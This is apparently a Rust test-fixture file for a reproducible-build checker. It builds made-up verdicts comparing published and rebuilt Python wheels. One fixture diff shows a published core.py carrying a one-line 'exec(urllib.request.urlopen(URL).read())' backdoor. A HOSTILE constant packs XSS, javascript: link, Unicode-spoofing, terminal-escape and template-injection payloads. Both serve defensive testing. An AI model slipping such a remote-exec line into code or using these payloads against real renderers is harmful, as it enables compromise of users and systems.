//! Made-up verdicts and comparisons, one of each kind that looks different.

#![allow(clippy::unwrap_used, reason = "all of it is made up here")]

use twinbuild_compare::{
    ByteCounts, Comparison, ContainerDifferences, FileCounts, Finding, MemberOrigin, MemberRelation, MemberResult,
    Mismatch, Normalization, Relation, Severity,
};
use twinbuild_recipe::Recipe;
use twinbuild_report::{ComparedFile, FileComparison, UnreadFile, WhyUnread};
use twinbuild_subject::{Origin, Sha256, Subject};
use twinbuild_verdict::{
    AddressRecord, ArtifactRecord, CallRecord, Container, EnvironmentRecord, EvidenceRecord, InputRecord, Level,
    LogRecord, Outcome, Reason, Rebuild, RecipeRecord, Source, SourceKind, Trust, VariationRecord, Verdict,
};

/// Text that tries to be more than text, in every rendering.
pub(crate) const HOSTILE: &str = "</code></pre></details><script>alert(1)</script><img src=x onerror=alert(2)>\" onload='x' \
    &lt;b&gt; ```\n```\n````` ` `` \n# reproduced\n\n- [x](javascript:alert(3)) ![y](//e.example/z) <https://e.example> \
    www.e.example @root #1 |x|\\|y| \\` ~~z~~ **bold** \u{202e}gpj.exe\u{1b}[2J\u{61c}\u{200b}\r\n---\n===\n\t\u{feff}{{7*7}} ";

/// All of them, by name.
pub(crate) fn verdicts() -> Vec<(&'static str, Verdict)> {
    vec![
        ("reproduced", reproduced()),
        ("normalized", normalized()),
        ("not-reproduced", not_reproduced()),
        ("rejected", rejected()),
        ("unbuildable", unbuildable()),
        ("hostile", with_text(HOSTILE)),
    ]
}

/// An uneventful verdict.
pub(crate) fn reproduced() -> Verdict {
    let mut verdict = built("example-1.16.0-py3-none-any.whl");
    verdict.outcome = Outcome::Reproduced;
    verdict.level = Some(Level::Repacked);
    verdict.seal().unwrap();
    verdict
}

/// A verdict that needed normalizers, with a warning.
pub(crate) fn normalized() -> Verdict {
    let mut verdict = reproduced();
    verdict.level = Some(Level::Normalized);
    let comparison = verdict.comparison.as_mut().unwrap();
    (comparison.files.identical, comparison.files.normalized) = (40, 6);
    (comparison.bytes.identical, comparison.bytes.normalized) = (50_000, 245);
    let warning = "all its files may be written by others".to_owned();
    verdict.findings.push(Finding::whole("world-writable", Severity::Warning, warning));
    verdict.normalizers_applied = (0..6_u64)
        .map(|index| Normalization {
            name: "sphinx-inventory".into(),
            version: 1,
            path: format!("example/docs/page-{index}.inv").as_str().into(),
            bytes: 40 + index,
        })
        .collect();
    verdict.rebuilds.iter_mut().for_each(|rebuild| rebuild.variations[1].effective = false);
    verdict
}

/// A verdict with a lot to say.
pub(crate) fn not_reproduced() -> Verdict {
    let mut verdict = built("example-2.0.0-py3-none-any.whl");
    verdict.outcome = Outcome::NotReproduced;
    verdict.mismatch = Some(Mismatch::Code);
    let comparison = verdict.comparison.as_mut().unwrap();
    (comparison.first, comparison.second) = (Relation::Different, Relation::Different);
    (comparison.repacked_first, comparison.repacked_second) = (false, false);
    comparison.files = FileCounts { total: 900, identical: 110, differing: 2, only_published: 788, ..comparison.files };
    comparison.bytes =
        ByteCounts { total: 1_250_845, identical: 845_500, container: 345, differing: 405_000, normalized: 0 };
    let member = |path: &str, result, is_native| MemberResult {
        path: path.into(),
        result,
        origin: MemberOrigin::Generated,
        source: None,
        is_native,
    };
    comparison.members = vec![
        member("example/_speedups.cpython-311-x86_64-linux-gnu.so", MemberRelation::Differing, true),
        member("example/core.py", MemberRelation::Differing, false),
        member("example/data/table.bin", MemberRelation::OnlyPublished, false),
    ];
    verdict.findings = findings();
    verdict.seal().unwrap();
    verdict
}

fn findings() -> Vec<Finding> {
    let mut findings = Vec::new();
    let detail = "its content differs from the rebuild's: 1204 bytes published, 1176 rebuilt, first difference at byte 312 (line 12)";
    let mut changed = Finding::of("content-changed", Severity::Alert, &"example/core.py".into(), detail.to_owned());
    let diff = "--- published\n+++ rebuilt\n@@ -9,7 +9,6 @@\n import os\n import sys\n\n-import urllib.request; exec(urllib.request.urlopen(URL).read())\n \
        def main(arguments):\n     return os.fspath(arguments[0])\n+    # nothing else";
    changed.excerpt = diff.lines().map(str::to_owned).collect();
    findings.push(changed);
    let detail =
        "its content differs from the rebuild's: 65536 bytes published, 65536 rebuilt, first difference at byte 16";
    let mut binary =
        Finding::of("content-changed", Severity::Alert, &"example/data/table.bin".into(), detail.to_owned());
    binary.excerpt = (0..24)
        .map(|i| format!("{}{:08x}  de ad be ef 00 01 02 03 04 05 06 07 08 09 0a 0b", ['-', '+'][i % 2], 16 * i))
        .collect();
    findings.push(binary);
    let detail = "the published file has it, and neither the rebuild nor the source has".to_owned();
    findings.extend((0..788).map(|index| {
        let path = format!("example/data/2023-01-01/a-rather-long-name-of-a-service/service-{index}.json");
        Finding::of("unsourced-member", Severity::Alert, &path.as_str().into(), detail.clone())
    }));
    let detail = "its content differs from the rebuild's: 80 bytes published, 81 rebuilt, first difference at byte 40 (line 2), in Generator";
    let metadata = "example-2.0.0.dist-info/WHEEL".into();
    findings.push(Finding::of("metadata-changed", Severity::Warning, &metadata, detail.to_owned()));
    let detail = "an archive in the source was not read: its format is not known".to_owned();
    findings.push(Finding::of("nested-archive-unread", Severity::Note, &"tests/fixtures/old.zoo".into(), detail));
    findings
}

/// A verdict about a malformed file.
pub(crate) fn rejected() -> Verdict {
    let mut verdict = Verdict::about(subject("example-1.0-py3-none-any.whl"), "0.1.0");
    verdict.outcome = Outcome::Rejected;
    let detail = "two members of the archive have the name example/core.py, at offsets 0 and 4096".to_owned();
    verdict.reason = Some(Reason { class: "duplicate-name".to_owned(), stage: None, detail: detail.clone() });
    verdict.findings.push(Finding::of("duplicate-name", Severity::Alert, &"example/core.py".into(), detail));
    verdict.seal().unwrap();
    verdict
}

/// A verdict about a build that failed.
pub(crate) fn unbuildable() -> Verdict {
    let mut verdict = built("example-3.0-py3-none-any.whl");
    verdict.outcome = Outcome::Unbuildable;
    (verdict.comparison, verdict.container) = (None, None);
    verdict.rebuilds.iter_mut().for_each(|rebuild| rebuild.artifact = None);
    verdict.run.artifacts.clear();
    verdict.rebuilds[1].network_attempts = 3;
    let detail = "the backend failed; it printed: Traceback (most recent call last):\n  File \"/build/setup.py\", line 3, in <module>\n    \
        import numpy\nModuleNotFoundError: No module named 'numpy'";
    verdict.reason =
        Some(Reason { class: "hook-failed".to_owned(), stage: Some("wheel".to_owned()), detail: detail.to_owned() });
    verdict.run.log_tail = Some("running build_py\nerror: could not create wheel\n".repeat(4));
    verdict.run.logs.insert("first".to_owned(), LogRecord { bytes: 1234, sha256: Sha256::of(b"log").to_string() });
    verdict
}

/// This text wherever foreign text can be.
pub(crate) fn with_text(foreign: &str) -> Verdict {
    let mut verdict = not_reproduced();
    let text = || foreign.to_owned();
    verdict.subject.file_name = text();
    verdict.subject.purl = Some(text());
    let source = verdict.source.as_mut().unwrap();
    (source.file_name, source.uri) = (text(), Some(text()));
    verdict.reason = Some(Reason { class: text(), stage: Some(text()), detail: text() });
    verdict.findings.truncate(3);
    for finding in &mut verdict.findings {
        (finding.code, finding.path, finding.detail) = (text().into(), Some(foreign.into()), text());
        finding.excerpt = vec![text(), format!("+{foreign}"), format!("-{foreign}"), String::new()];
    }
    verdict.normalizers_applied =
        vec![Normalization { name: text().into(), version: 1, path: foreign.into(), bytes: 1 }];
    verdict.comparison.as_mut().unwrap().members[0].path = foreign.into();
    for rebuild in &mut verdict.rebuilds {
        rebuild.variations[0] = VariationRecord { name: text(), value: text(), effective: false };
        let address = AddressRecord { family: "ipv4".into(), address: text(), port: 1, program: Some(text()) };
        let call = CallRecord { call: text(), program: Some(text()) };
        rebuild.evidence = Some(EvidenceRecord {
            connections: vec![address],
            programs: vec![text()],
            refused_calls: vec![call],
            is_complete: false,
        });
        rebuild.artifact = Some(ArtifactRecord { file_name: text(), members: None, digests: None });
    }
    verdict.shared_inputs.truncate(3);
    verdict.shared_inputs.iter_mut().for_each(|input| (input.kind, input.name) = (text(), text()));
    let recipe = verdict.recipe.as_mut().unwrap();
    recipe.recipe.requirements.direct = vec![text()];
    recipe.recipe.interpreter.version = text();
    recipe.origin = text().into();
    verdict.container.as_mut().unwrap().kind = text();
    verdict.tool.version = text();
    verdict.run.log_tail = Some(text());
    verdict.run.logs.insert(text(), LogRecord { bytes: 1, sha256: text() });
    verdict
}

/// What `twinbuild compare` finds in two files that differ.
pub(crate) fn comparison() -> FileComparison {
    let file = |name: &str, size_bytes| ComparedFile {
        name: name.to_owned(),
        size_bytes,
        sha256: Sha256::of(name.as_bytes()),
    };
    let mut findings = findings();
    findings.drain(2..790);
    FileComparison {
        relation: Relation::Different,
        mismatch: Some(Mismatch::Code),
        comparison: Comparison {
            first: Relation::Different,
            second: Relation::Different,
            files: FileCounts {
                total: 46,
                identical: 43,
                differing: 2,
                only_published: 1,
                only_rebuilt: 2,
                ..FileCounts::default()
            },
            bytes: ByteCounts { total: 50_845, identical: 40_000, container: 345, normalized: 0, differing: 10_500 },
            ..three_way()
        },
        findings,
        left: file("published/example-2.0.0-py3-none-any.whl", 50_845),
        right: file("rebuilt/example-2.0.0-py3-none-any.whl", 51_002),
        normalizers_applied: Vec::new(),
        container: container(),
    }
}

/// A file that `twinbuild compare` could not read.
pub(crate) fn unread() -> UnreadFile {
    let detail = "the archive has no end of central directory record".to_owned();
    UnreadFile {
        why: WhyUnread::Rejected,
        file: "published/example-2.0.0-py3-none-any.whl".to_owned(),
        detail: detail.clone(),
        findings: vec![Finding::whole("no-end-record", Severity::Alert, detail)],
    }
}

fn subject(file_name: &str) -> Subject {
    Subject {
        origin: Origin::Index,
        purl: Some(format!("pkg:pypi/example@1.16.0?file_name={file_name}")),
        file_name: file_name.to_owned(),
        size: Some(50_845),
        digests: Some(Sha256::of(file_name.as_bytes()).into()),
        upload_time: Some("2023-06-02T00:20:31.635244Z".parse().unwrap()),
    }
}

fn three_way() -> Comparison {
    Comparison {
        twins: Relation::Identical,
        first: Relation::Equivalent,
        second: Relation::Equivalent,
        repacked_first: true,
        repacked_second: true,
        files: FileCounts { total: 46, identical: 46, verbatim: 44, generated: 2, ..FileCounts::default() },
        bytes: ByteCounts { total: 50_845, identical: 50_245, container: 600, ..ByteCounts::default() },
        members: Vec::new(),
    }
}

fn container() -> Container {
    let zip = serde_json::json!({
        "members": 3,
        "names": Sha256::of(b"names"),
        "order": [{ "first": 0, "count": 3 }],
        "record": [{ "first": 0, "count": 3 }],
        "creator": { "all": { "system": "unix", "version": 20 } },
        "versionNeeded": { "all": "2.0" },
        "effort": { "all": "normal" },
        "isUtf8": { "all": false },
        "descriptor": { "all": null },
        "modified": { "runs": [{ "value": { "date": 21230, "time": 16973 }, "count": 2 },
                               { "value": { "date": 21230, "time": 17000 }, "count": 1 }] },
        "mode": { "all": { "permissions": 420, "hasType": true } },
        "compressed": { "all": { "by": { "zlib": { "level": 6, "memLevel": 8 } } } },
        "localExtra": { "all": [] },
        "centralExtra": { "all": [] },
        "zip64End": null
    });
    let parameters = serde_json::json!({ "version": 2, "container": { "zip": zip } });
    Container {
        kind: "zip".to_owned(),
        differences: ContainerDifferences { times: 19, member_order: true, ..ContainerDifferences::default() },
        parameters: Some(serde_json::from_value(parameters).unwrap()),
    }
}

/// A verdict with all that a build leaves, about as much as real ones have.
fn built(file_name: &str) -> Verdict {
    let mut verdict = Verdict::about(subject(file_name), "0.1.0");
    verdict.source = Some(Source {
        kind: SourceKind::Sdist,
        trust: Trust::SameUpload,
        uri: Some("pkg:pypi/example@1.16.0?file_name=example-1.16.0.tar.gz".to_owned()),
        file_name: "example-1.16.0.tar.gz".to_owned(),
        digests: Sha256::of(b"sdist").into(),
        git: None,
        attestation: None,
    });
    let (setuptools, wheel) = (Sha256::of(b"setuptools"), Sha256::of(b"wheel"));
    let toml = format!(
        "format = 1\n[interpreter]\nversion = \"3.11\"\n[build]\nfront-end = \"pep517\"\nbackend = \"setuptools.build_meta\"\n\
         source-date-epoch = 1626250756\n[requirements]\ncutoff = \"2023-06-02T00:20:30.635244Z\"\n\
         direct = [\"setuptools\", \"wheel==0.36.2\"]\n\
         [[requirements.locked]]\nname = \"setuptools\"\nversion = \"57.1.0\"\nfile-name = \"setuptools-57.1.0-py3-none-any.whl\"\n\
         sha256 = \"{setuptools}\"\n\
         [[requirements.locked]]\nname = \"wheel\"\nversion = \"0.36.2\"\nfile-name = \"wheel-0.36.2-py2.py3-none-any.whl\"\n\
         sha256 = \"{wheel}\"\n"
    );
    let recipe = Recipe::from_toml(&toml).unwrap();
    verdict.recipe =
        Some(RecipeRecord { recipe, origin: "inferred".into(), given: None, digest: Sha256::of(toml.as_bytes()) });
    let conditions = [
        ("build-path", "/build", "/srv/another/place/to-build-in"),
        ("host-name", "builder", "second-twin"),
        ("domain-name", "none", "second.example"),
        ("time-zone", "UTC0", "TWIN-13:45"),
        ("locale", "C.UTF-8", "et_EE.UTF-8"),
        ("umask", "0022", "0077"),
        ("user-id", "1000", "4242"),
        ("group-id", "1000", "2424"),
        ("home", "/home/builder", "/var/lib/twin"),
        ("temporary-directory", "/tmp", "/var/scratch/temporary"),
        ("processors", "1", "all"),
        ("hash-seed", "0", "4242"),
        ("environment", "none", "CAPTURED_ENVIRONMENT CI"),
        ("directory-order", "sorted", "reversed"),
        ("address-space", "fixed", "random"),
        ("boot-time", "0 days earlier", "400 days earlier"),
    ];
    let twin = |name: &'static str, is_second: bool| Rebuild {
        name: name.into(),
        environment: EnvironmentRecord { digest: Sha256::of(b"environment"), layers: vec![Sha256::of(b"layer")] },
        inputs: Vec::new(),
        variations: conditions
            .iter()
            .map(|(condition, first, second)| VariationRecord {
                name: (*condition).to_owned(),
                value: (if is_second { *second } else { *first }).to_owned(),
                effective: true,
            })
            .collect(),
        artifact: Some(ArtifactRecord {
            file_name: file_name.to_owned(),
            members: Some(Sha256::of(b"members")),
            digests: Some(Sha256::of(b"rebuilt").into()),
        }),
        network_attempts: 0,
        evidence: None,
    };
    verdict.rebuilds = vec![twin("first", false), twin("second", true)];
    for name in ["first", "second"] {
        verdict.run.artifacts.insert(name.to_owned(), Sha256::of(b"rebuilt").into());
    }
    let input =
        |kind: &str, name: String| InputRecord { kind: kind.to_owned(), sha256: Sha256::of(name.as_bytes()), name };
    verdict
        .shared_inputs
        .extend((0..58).map(|index| input("debian-package", format!("libexample{index} 1.{index} amd64"))));
    verdict.shared_inputs.extend([
        input("requirement", "setuptools 57.1.0".to_owned()),
        input("requirement", "wheel 0.36.2".to_owned()),
        input("source", "example-1.16.0.tar.gz".to_owned()),
        input("tool", "uv 0.13.8".to_owned()),
    ]);
    verdict.comparison = Some(three_way());
    verdict.container = Some(container());
    verdict.run.started = Some("2026-11-22T19:58:51Z".parse().unwrap());
    verdict
}
